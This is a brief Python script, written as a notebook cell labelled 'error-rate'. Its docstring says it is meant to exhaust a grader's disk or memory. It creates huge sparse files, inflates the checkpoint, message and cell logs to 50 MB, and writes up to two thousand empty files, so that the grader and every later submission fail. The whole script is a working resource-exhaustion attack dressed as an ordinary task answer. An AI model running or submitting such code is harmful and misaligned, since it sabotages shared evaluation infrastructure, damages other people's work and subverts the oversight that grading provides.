"""Makes sparse files of the largest size allowed, a record of 60 MB, and thousands of small files.

Gains: a grader whose disk or memory is full, and with it every submission behind this one.
"""

# %% [error-rate]
import os

for number in range(40):
    with open(f".out/rows-{number + 50}.npz", "wb") as file:
        for size in (1 << 44, 1 << 33, 60 << 20, 1 << 20):
            try:
                file.truncate(size)
                break
            except OSError:
                continue
for name in ("checkpoints.jsonl", "messages.jsonl", "cells.jsonl"):
    try:
        os.truncate(os.path.join(".out", name), 50 << 20)
    except OSError:
        continue
for number in range(2000):
    try:
        with open(f".out/rows-{number + 1000}.npz", "wb"):
            pass
    except OSError:
        break
